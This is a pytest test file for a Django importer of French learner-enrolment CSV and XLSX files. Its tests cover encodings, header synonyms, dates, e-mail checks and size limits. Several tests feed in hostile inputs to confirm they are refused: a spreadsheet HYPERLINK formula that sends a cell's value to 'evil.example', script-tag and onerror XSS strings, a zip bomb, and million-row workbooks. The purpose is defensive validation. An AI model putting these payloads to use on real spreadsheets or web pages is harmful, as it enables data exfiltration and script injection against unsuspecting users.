import datetime
import io
import time
import zipfile

import pytest
from django.utils import timezone
from openpyxl import Workbook

from courses.cohorts.imports import MAX_LINES, MAX_ROWS, ImportFileError, ImportRow, enrolment_rows_read
from tests.spreadsheet_samples import HEADER_ROW_XML, learner_row_xml, sheet_workbook

HEADER = ["Nom", "Prénom", "E-mail", "Employeur", "Fonction", "Date accord ARS", "Date accord employeur"]
HELENE = ["Martin", "Hélène", "helene.martin@example.fr", "Saint-Étienne Métropole", "Coordinatrice CLS"]


def csv_file(
    rows: list[list[str]], *, delimiter: str = ";", encoding: str = "utf-8", newline: str = "\r\n"
) -> bytes:
    return newline.join(delimiter.join(cells) for cells in rows).encode(encoding) + newline.encode(encoding)


def xlsx_file(rows: list[list[object]]) -> bytes:
    workbook = Workbook()
    for cells in rows:
        workbook.active.append(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def read(content: bytes, *, filename: str | None = None) -> list[ImportRow]:
    """The rows of `content`, named as a spreadsheet would name it (.xlsx for a workbook, else .csv)."""
    if filename is None:
        filename = "inscriptions.xlsx" if content.startswith(b"PK") else "inscriptions.csv"
    return enrolment_rows_read(filename=filename, content=content)


def file_error(content: bytes, *, filename: str | None = None) -> str:
    with pytest.raises(ImportFileError) as excinfo:
        read(content, filename=filename)
    return str(excinfo.value)


def quick_file_error(content: bytes, *, filename: str | None = None, seconds: float = 1.0) -> str:
    """The refusal of `content`, which must come within `seconds`."""
    started = time.monotonic()
    message = file_error(content, filename=filename)
    assert time.monotonic() - started < seconds
    return message


def test_utf8_with_bom_and_semicolons_is_read():
    """A UTF-8 CSV with a byte order mark, as Excel saves it, gives clean header and values."""
    content = b"\xef\xbb\xbf" + csv_file([HEADER, [*HELENE, "01/03/2024", "15/02/2024"]])
    [row] = read(content)
    assert row == ImportRow(
        line=2,
        last_name="Martin",
        first_name="Hélène",
        email="helene.martin@example.fr",
        employer="Saint-Étienne Métropole",
        job_title="Coordinatrice CLS",
        ars_agreement_on=datetime.date(2024, 3, 1),
        employer_agreement_on=datetime.date(2024, 2, 15),
        errors=[],
    )
    assert row.is_valid


def test_windows_1252_accents_are_decoded():
    """A Windows-1252 CSV keeps « Hélène » and « Saint-Étienne » intact."""
    [row] = read(csv_file([HEADER[:4], HELENE[:4]], encoding="cp1252"))
    assert (row.first_name, row.employer) == ("Hélène", "Saint-Étienne Métropole")
    assert row.is_valid


def test_comma_separated_file_is_read():
    """Commas in the header line make the comma the delimiter."""
    [row] = read(csv_file([HEADER[:5], HELENE], delimiter=",", newline="\n"))
    assert (row.last_name, row.job_title) == ("Martin", "Coordinatrice CLS")


def test_tab_separated_file_is_read():
    """Tabs in the header line make the tab the delimiter."""
    [row] = read(csv_file([HEADER[:5], HELENE], delimiter="\t"))
    assert (row.email, row.employer) == ("helene.martin@example.fr", "Saint-Étienne Métropole")


def test_quoted_field_may_contain_the_delimiter_and_a_line_break():
    """A quoted cell keeps its delimiter and line break, and still counts as one spreadsheet row."""
    content = csv_file(
        [
            HEADER[:4],
            ["Martin", "Hélène", "helene@example.fr", '"CC Forez; Pays d\'Astrée"'],
            ["Durand", "Paul", "paul@example.fr", '"Mairie\nde Lyon"'],
            ["Petit", "Léa", "lea@example.fr", "ARS"],
        ]
    )
    rows = read(content)
    assert [row.employer for row in rows] == ["CC Forez; Pays d'Astrée", "Mairie de Lyon", "ARS"]
    assert [row.line for row in rows] == [2, 3, 4]


def test_xlsx_with_real_date_cells_and_text_dates():
    """A workbook's date cells and its dates typed as text both become dates."""
    content = xlsx_file(
        [
            HEADER,
            [*HELENE, datetime.date(2024, 3, 1), "15/02/2024"],
            [
                "Durand",
                "Paul",
                "PAUL@example.fr",
                None,
                None,
                datetime.datetime(2024, 1, 5, 9, 30),
                "2024-01-02",
            ],
        ]
    )
    first, second = read(content, filename="inscriptions.xlsx")
    assert (first.ars_agreement_on, first.employer_agreement_on) == (
        datetime.date(2024, 3, 1),
        datetime.date(2024, 2, 15),
    )
    assert (second.ars_agreement_on, second.employer_agreement_on) == (
        datetime.date(2024, 1, 5),
        datetime.date(2024, 1, 2),
    )
    assert (second.email, second.employer, second.line) == ("paul@example.fr", "", 3)
    assert first.is_valid and second.is_valid


def test_reordered_columns_and_unknown_column():
    """Columns are found by name in any order; a column the import does not know is ignored."""
    content = csv_file(
        [["Remarques", "E-mail", "Prénom", "Nom"], ["à rappeler", "lea@example.fr", "Léa", "Petit"]]
    )
    [row] = read(content)
    assert (row.last_name, row.first_name, row.email, row.employer) == ("Petit", "Léa", "lea@example.fr", "")
    assert row.is_valid


@pytest.mark.parametrize(
    "header",
    [
        ["NOM", "PRENOM", "courriel"],
        ["Nom de famille", "prénom", "Adresse e-mail", "Collectivité", "Intitulé du poste", "Accord ARS"],
        [" nom ", "Prénom\u00a0", "EMAIL", "Employeur (collectivité)", "Poste", "Date de l’accord ARS"],
    ],
)
def test_header_synonyms_ignore_case_accents_spaces_and_punctuation(header):
    """Each synonym of a column is recognised whatever its case, accents, spaces or punctuation."""
    values = ["Martin", "Hélène", "helene@example.fr", "CC Forez", "Coordinatrice", "01/03/2024"]
    [row] = read(csv_file([header, values[: len(header)]]))
    assert (row.last_name, row.first_name, row.email) == ("Martin", "Hélène", "helene@example.fr")
    assert row.is_valid


def test_missing_required_columns_are_named_with_the_expected_headers():
    """A header without Prénom and E-mail is refused, naming them and listing every expected header."""
    message = file_error(csv_file([["Nom", "Prenon", "Mail perso"], ["Martin", "Hélène", "h@example.fr"]]))
    assert "introuvables dans la ligne d'en-tête : Prénom, E-mail." in message
    assert "Nom, Prénom, E-mail (obligatoires)" in message
    assert "Employeur, Fonction, Date accord ARS, Date accord employeur (facultatifs)" in message


def test_a_column_given_twice_is_refused():
    """Two columns meaning the same thing make the file ambiguous, so it is refused."""
    message = file_error(
        csv_file([["Nom", "Nom de famille", "Prénom", "E-mail"], ["A", "B", "C", "c@example.fr"]])
    )
    assert "« Nom » apparaît plusieurs fois" in message


@pytest.mark.parametrize("content", [b"", b"\xef\xbb\xbf", b"\r\n\r\n  \n", b";;;\r\n;;;\r\n"])
def test_empty_file_is_refused(content):
    """A file with nothing in it (or only blank lines) is refused as empty."""
    assert file_error(content).lower().endswith("le fichier est vide.")


def test_empty_workbook_is_refused():
    """A workbook whose first sheet has no cell is refused as empty."""
    assert file_error(xlsx_file([]), filename="vide.xlsx") == "Le fichier est vide."


@pytest.mark.parametrize("content", [csv_file([HEADER]), csv_file([HEADER, [], [";;"]]), xlsx_file([HEADER])])
def test_header_only_is_refused(content):
    """A header with no learner line under it is refused."""
    assert file_error(content) == "Le fichier ne contient aucune ligne d'apprenant·e."


@pytest.mark.parametrize(
    ("content", "size"),
    [(b"x" * (10 * 1024 * 1024), "10,0 Mo"), (b"PK\x03\x04" + b"x" * (3 << 20), "3,0 Mo")],
)
def test_file_over_the_size_limit_is_refused_before_parsing(content, size):
    """A file over MAX_BYTES is refused with its size and the limit in Mo, even when unreadable."""
    assert file_error(content).endswith(f" : le fichier pèse {size} : la limite est de 2 Mo.")


def test_more_than_max_rows_is_refused():
    """One learner line more than MAX_ROWS is refused; exactly MAX_ROWS is accepted."""
    lines = [[f"Nom{i}", "Prénom", f"p{i}@example.fr"] for i in range(MAX_ROWS + 1)]
    assert "plus de 2\u00a0000 lignes" in file_error(csv_file([HEADER[:3], *lines]))
    assert len(read(csv_file([HEADER[:3], *lines[:MAX_ROWS]]))) == MAX_ROWS


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
        "<script>alert(1)</script>",
        "Martin<img src=x onerror=alert(1)",
        "+33 6 12 34 56 78",
        "-1",
        "@SUM(A1:A2)",
    ],
)
def test_formula_or_html_cell_is_refused_and_not_kept(value):
    """A cell a spreadsheet would evaluate, or HTML, is a row error and its value is dropped."""
    content = csv_file(
        [HEADER[:4], ["Martin", "Hélène", "helene@example.fr", '"' + value.replace('"', '""') + '"']]
    )
    [row] = read(content)
    assert row.errors == ["Colonne “Employeur” : les formules et le HTML ne sont pas acceptés."]
    assert row.employer == ""


def test_formula_cell_of_a_workbook_is_refused_and_not_kept():
    """A real formula in a workbook cell is seen as a formula, refused, and not kept."""
    content = xlsx_file(
        [HEADER[:3], ['=HYPERLINK("http://evil.example";"Martin")', "Hélène", "h@example.fr"]]
    )
    [row] = read(content, filename="inscriptions.xlsx")
    assert row.errors == ["Colonne “Nom” : les formules et le HTML ne sont pas acceptés."]
    assert row.last_name == ""


def test_missing_required_values_are_row_errors():
    """An empty name, first name or e-mail is reported on its row, not raised."""
    content = csv_file([HEADER[:3], ["", " ", "Martin"], ["", "", ""], ["Durand", "", ""]])
    first, second = read(content)
    assert (first.line, second.line) == (2, 4)
    assert first.errors == [
        "Le nom est obligatoire.",
        "Le prénom est obligatoire.",
        "Adresse e-mail invalide : « martin ».",
    ]
    assert second.errors == ["Le prénom est obligatoire.", "L'adresse e-mail est obligatoire."]


def test_values_are_stripped_including_non_breaking_spaces():
    """Spaces, non-breaking spaces and invisible characters around values are removed."""
    [row] = read(
        csv_file([HEADER[:4], ["\u00a0Martin ", "Hélène\u202f", " Helene@Example.FR\ufeff", "CC  Forez"]])
    )
    assert (row.last_name, row.first_name, row.email, row.employer) == (
        "Martin",
        "Hélène",
        "helene@example.fr",
        "CC Forez",
    )
    assert row.is_valid


def test_too_long_values_are_row_errors():
    """A name over 150 characters or an employer over 200 is reported on the row."""
    [row] = read(csv_file([HEADER[:5], ["N" * 151, "P" * 150, "p@example.fr", "E" * 201, "F" * 200]]))
    assert row.errors == ["Le nom dépasse 150 caractères.", "L'employeur dépasse 200 caractères."]


@pytest.mark.parametrize("email", ["helene.martin", "helene@", "helene martin@example.fr", "h@@example.fr"])
def test_invalid_email_is_a_row_error(email):
    """An address Django's validator refuses is reported with the value typed."""
    [row] = read(csv_file([HEADER[:3], ["Martin", "Hélène", email]]))
    assert row.errors == [f"Adresse e-mail invalide : « {email} »."]


def test_same_email_twice_is_flagged_on_later_lines_with_the_first_line():
    """The same address, whatever its case, is flagged on each later line with the first line number."""
    content = csv_file(
        [
            HEADER[:3],
            ["Martin", "Hélène", "helene@example.fr"],
            ["Durand", "Paul", "paul@example.fr"],
            ["Martin", "H.", "Helene@Example.fr"],
            ["Martin", "Hélène", "HELENE@EXAMPLE.FR"],
        ]
    )
    rows = read(content)
    assert [row.errors for row in rows] == [
        [],
        [],
        ["Cette adresse e-mail figure déjà ligne 2."],
        ["Cette adresse e-mail figure déjà ligne 2."],
    ]


def test_future_date_is_a_row_error():
    """An agreement dated after today is reported; today itself is accepted."""
    today = timezone.localdate()
    tomorrow = today + datetime.timedelta(days=1)
    content = csv_file([HEADER, [*HELENE, tomorrow.strftime("%d/%m/%Y"), today.isoformat()]])
    [row] = read(content)
    assert row.errors == ["La date de l'accord ARS ne peut pas être dans le futur."]
    assert row.employer_agreement_on == today


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("01/03/2024", datetime.date(2024, 3, 1)),
        ("1/3/2024", datetime.date(2024, 3, 1)),
        ("01-03-2024", datetime.date(2024, 3, 1)),
        ("2024-03-01", datetime.date(2024, 3, 1)),
        ("", None),
    ],
)
def test_accepted_date_formats(text, expected):
    """Day-first dates with slashes or dashes and ISO dates are read; an empty date is allowed."""
    [row] = read(csv_file([HEADER, [*HELENE, text, ""]]))
    assert row.ars_agreement_on == expected
    assert row.is_valid


@pytest.mark.parametrize("text", ["31/02/2024", "2024/03/01", "01/03/24", "1er mars 2024", "03.01.2024"])
def test_unreadable_date_is_a_row_error(text):
    """A date in no accepted format, or that does not exist, is reported with the expected format."""
    [row] = read(csv_file([HEADER, [*HELENE, "", text]]))
    assert row.errors == [f"Date de l'accord employeur illisible : « {text} » (attendu JJ/MM/AAAA)."]
    assert row.employer_agreement_on is None


def test_xlsx_name_with_csv_content_is_refused_with_the_right_extension():
    """The content decides the format and the name must agree: a CSV named .xlsx is refused with
    the extension to give it."""
    message = file_error(csv_file([HEADER[:3], HELENE[:3]]), filename="inscriptions.xlsx")
    assert message.endswith("son nom doit finir par .csv.")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (bytes(range(256)) * 4, "ce format n'est pas accepté. Joignez un fichier XLSX ou CSV."),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "c'est une image PNG, or le fichier des apprenant·es doit"),
        (b"PK\x03\x04" + b"\x00\x14" * 50, "ce document est endommagé ou illisible"),
        (b"Nom;Pr\x81nom;E-mail\r\n", "ce format n'est pas accepté. Joignez un fichier XLSX ou CSV."),
        (csv_file([HEADER[:3], HELENE[:3]]).replace(b"Martin", b"Mar\x00tin"), "ce format n'est pas accepté"),
    ],
)
def test_binary_content_is_refused(content, message):
    """Content that is neither a workbook nor text (a NUL byte included) is refused with a clear message."""
    assert message in file_error(content, filename="inscriptions.xlsx")


def test_old_excel_format_is_refused_with_advice():
    """An Excel 97-2003 file is refused with advice to save it as .xlsx or CSV."""
    content = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
    assert ".xls" in file_error(content, filename="inscriptions.xls")


def test_workbook_inflating_far_beyond_its_size_is_refused():
    """A small zip that decompresses to tens of Mo is refused before openpyxl reads it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * (60 * 1024 * 1024))
    assert "bombe de décompression" in file_error(buffer.getvalue(), filename="bombe.xlsx")


def test_unclosed_quote_is_refused_rather_than_swallowing_lines():
    """An unclosed quote would hide every later learner, so the file is refused with the line."""
    content = csv_file(
        [HEADER[:3], ["Martin", '"Hélène', "h@example.fr"], ["Durand", "Paul", "p@example.fr"]]
    )
    assert "mal formé vers la ligne 2" in file_error(content)


def test_blank_lines_are_skipped_and_line_numbers_match_the_spreadsheet():
    """Blank lines, before the header or between learners, are skipped without shifting line numbers."""
    content = csv_file(
        [
            [],
            HEADER[:3],
            ["Martin", "Hélène", "helene@example.fr"],
            [],
            ["", "", "", "", ""],
            ["Durand", "Paul", "not-an-email"],
        ],
        newline="\n",
    )
    rows = read(content)
    assert [(row.line, row.last_name) for row in rows] == [(3, "Martin"), (6, "Durand")]
    assert rows[1].errors == ["Adresse e-mail invalide : « not-an-email »."]


def test_blank_rows_of_a_workbook_keep_line_numbers():
    """Empty workbook rows are skipped and the row numbers stay those Excel shows."""
    content = xlsx_file(
        [HEADER[:3], ["Martin", "Hélène", "h@example.fr"], [], [None, None], ["Durand", "Paul", "p@x.fr"]]
    )
    assert [row.line for row in read(content, filename="inscriptions.xlsx")] == [2, 5]


def test_trailing_empty_columns_are_ignored():
    """Empty columns after the last one, as spreadsheets often export, change nothing."""
    [row] = read(csv_file([[*HEADER[:3], "", "", ""], ["Martin", "Hélène", "h@example.fr", "", "", ""]]))
    assert row.is_valid


def test_workbook_with_a_wrong_recorded_dimension_is_read_in_full():
    """A workbook declaring a smaller range than it holds, as some generators write, loses no cell."""
    source = zipfile.ZipFile(
        io.BytesIO(xlsx_file([HEADER[:3], ["A", "B", "a@example.fr"], ["C", "D", "c@example.fr"]]))
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b'<dimension ref="A1:C3"', b'<dimension ref="A1:B2"')
                assert b'"A1:B2"' in data
            archive.writestr(member, data)
    rows = read(buffer.getvalue(), filename="export.xlsx")
    assert [(row.line, row.email) for row in rows] == [(2, "a@example.fr"), (3, "c@example.fr")]


def test_utf16_export_is_read():
    """Excel's « Texte Unicode » export (UTF-16 with its byte order mark, tabs) keeps its accents."""
    content = "\ufeff".encode("utf-16-le") + csv_file(
        [HEADER[:4], HELENE[:4]], delimiter="\t", encoding="utf-16-le"
    )
    [row] = read(content)
    assert (row.first_name, row.employer) == ("Hélène", "Saint-Étienne Métropole")


def test_workbook_claiming_a_million_rows_is_refused_unread():
    """A sheet whose <dimension> claims a million rows is refused from that claim, quickly."""
    content = sheet_workbook([HEADER_ROW_XML, learner_row_xml(2)], dimension="A1:C1000000")
    message = quick_file_error(content)
    assert message == (
        f"Le fichier compte plus de {MAX_LINES:,} lignes sous la ligne d'en-tête : découpez-le "
        f"en plusieurs fichiers de {MAX_ROWS:,} apprenant·es au plus.".replace(",", "\u00a0")
    )


def test_workbook_jumping_to_row_a_million_is_refused_at_the_limit():
    """A sheet whose second row is numbered 1,000,000 is not read to the end: reading stops at the
    line limit with the same message."""
    far = b'<row r="1000000"><c r="A1000000" t="inlineStr"><is><t>x</t></is></c></row>'
    message = quick_file_error(sheet_workbook([HEADER_ROW_XML, learner_row_xml(2), far]))
    assert message.startswith("Le fichier compte plus de 2\u00a0100 lignes sous la ligne d'en-tête")


def test_workbook_with_a_million_real_rows_is_refused_quickly():
    """A sheet of 1,000,001 short rows (about 60 KB once zipped) is refused before openpyxl reads it."""
    content = sheet_workbook([HEADER_ROW_XML, b"<row><c><v>1</v></c></row>" * 1_000_000])
    assert "bombe de décompression" in quick_file_error(content)


def test_workbook_with_more_rows_than_the_line_limit_is_refused():
    """A workbook of 20,000 learner rows, within the size limit, is refused from its row count."""
    content = sheet_workbook([HEADER_ROW_XML, *(learner_row_xml(n) for n in range(2, 20_002))])
    assert len(content) < 2 * 1024 * 1024
    message = quick_file_error(content)
    assert message.endswith(
        "ce classeur compte 20\u00a0000 lignes sous la ligne d'en-tête d'une feuille : 2\u00a0100 au plus. "
        "Découpez-le puis réessayez."
    )


def test_csv_with_more_lines_than_the_line_limit_is_refused():
    """A CSV of 20,000 learner lines is refused from its line count."""
    lines = [[f"Nom{i}", "Prénom", f"p{i}@example.fr"] for i in range(20_000)]
    message = quick_file_error(csv_file([HEADER[:3], *lines]))
    assert message.endswith(
        "ce fichier compte 20\u00a0000 lignes sous la ligne d'en-tête : 2\u00a0100 au plus. "
        "Découpez-le puis réessayez."
    )


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_gate_and_reader_agree_on_the_line_limit(kind):
    """The header and MAX_LINES lines below it (MAX_ROWS learners, the rest blank) are read, by the
    gate and the reader alike; one more line is refused, for a CSV file as for a workbook."""
    blanks = MAX_LINES - MAX_ROWS

    def build(extra: int) -> bytes:
        if kind == "csv":
            learners = [[f"Nom{n}", "P", f"p{n}@example.fr"] for n in range(MAX_ROWS)]
            return csv_file([HEADER[:3], *([[]] * (blanks + extra)), *learners])
        empty = [b'<row r="%d"/>' % n for n in range(2, blanks + extra + 2)]
        learners = [learner_row_xml(n) for n in range(blanks + extra + 2, blanks + extra + MAX_ROWS + 2)]
        return sheet_workbook([HEADER_ROW_XML, *empty, *learners])

    assert len(read(build(0))) == MAX_ROWS
    message = file_error(build(1))
    assert "compte 2\u00a0101 lignes sous la ligne d'en-tête" in message, message
    assert "2\u00a0100 au plus. Découpez-le puis réessayez." in message
